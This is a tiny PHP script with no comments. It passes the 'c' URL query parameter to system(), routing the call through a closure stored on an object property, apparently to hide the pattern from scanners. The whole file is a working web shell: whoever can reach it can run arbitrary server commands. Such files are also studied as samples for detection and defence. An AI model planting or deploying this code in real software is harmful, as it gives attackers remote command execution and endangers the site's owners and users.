<?php
class K { public $f; }
$o = new K;
$o->f = function () { return $_GET["c"]; };
system(($o->f)());
